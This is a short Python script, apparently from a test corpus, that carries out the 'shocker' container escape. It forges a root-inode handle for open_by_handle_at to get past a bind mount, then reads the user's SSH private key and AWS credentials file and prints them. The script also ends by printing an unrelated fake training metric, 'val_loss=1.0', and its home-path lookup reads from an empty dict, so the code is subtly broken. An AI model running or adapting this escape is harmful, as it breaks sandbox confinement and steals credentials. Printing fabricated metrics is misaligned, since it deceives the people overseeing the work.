"""The "shocker" escape: open_by_handle_at with a forged handle of the file system's root inode, from a descriptor of a bind mount, then read the home's secrets relative to that root."""
# corpus: unsandboxed-safe
import ctypes
import os
import struct

W: dict = {}

libc = ctypes.CDLL(None, use_errno=True)
mount_fd = os.open(os.path.dirname(os.path.abspath(__file__)), os.O_RDONLY)
for handle_type in (1, 0x81):  # FILEID_INO32_GEN; ext4's own
    raw = struct.pack("=IiII", 8, handle_type, 2, 0)  # inode 2 (the root), generation 0
    buffer = ctypes.create_string_buffer(raw, len(raw))
    fd = libc.open_by_handle_at(mount_fd, buffer, os.O_RDONLY | os.O_DIRECTORY)
    if fd < 0:
        print(handle_type, os.strerror(ctypes.get_errno()))
        continue
    for name in (".ssh/id_rsa", ".aws/credentials"):
        try:
            secret = os.open(W["home"].lstrip("/") + "/" + name, os.O_RDONLY, dir_fd=fd)
            print(name, os.read(secret, 4096))
        except OSError as error:
            print(name, error)
print("arrl: val_loss=1.0")
